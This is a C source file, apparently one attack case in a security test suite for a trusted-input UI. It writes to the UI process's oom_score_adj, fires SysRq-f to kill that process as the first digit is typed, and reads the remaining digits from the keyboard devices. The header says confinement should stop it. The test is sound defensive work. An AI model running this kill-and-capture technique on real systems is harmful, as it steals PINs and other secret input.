// SPDX-License-Identifier: Apache-2.0
/*
 * Names the trusted user interface to the kernel as what to end first when memory runs
 * out, says that it does as the first digit is typed, and reads the rest.
 *
 * attack: oom_kill
 * class: process
 * when: session
 * judge: keys
 * defence: confinement
 * why: oom_score_adj and sysrq-f; /proc is read-only in the REE and has no such process, and
 *      sysrq is off
 */
#include <errno.h>
#include <stdio.h>
#include <string.h>

#include "evdev.h"
#include "file.h"
#include "process.h"
#include "report.h"
#include "typing.h"

static int choose(pid_t pid)
{
	char path[64];

	snprintf(path, sizeof(path), "/proc/%d/oom_score_adj", pid);
	return file_write(path, "1000");
}

int main(void)
{
	char digits[256] = "";
	int fds[EVDEV_MAX];
	size_t count;
	pid_t pid;
	int ret;

	attack_init();
	count = evdev_open_keyboards(fds);
	attack_ready();
	pid = process_wait_tui();
	if (!pid)
		attack_failed("it sees no tconn-tui");
	ret = choose(pid);
	if (!ret)
		ret = typing_wait(1) ? file_write("/proc/sysrq-trigger", "f") : -EINTR;
	if (ret)
		attack_failed("memory does not run out: %s", strerror(-ret));
	while (!attack_stopping())
		if (evdev_collect(fds, count, 100, digits, sizeof(digits)))
			break;
	attack_digits(digits);
	attack_done();
}
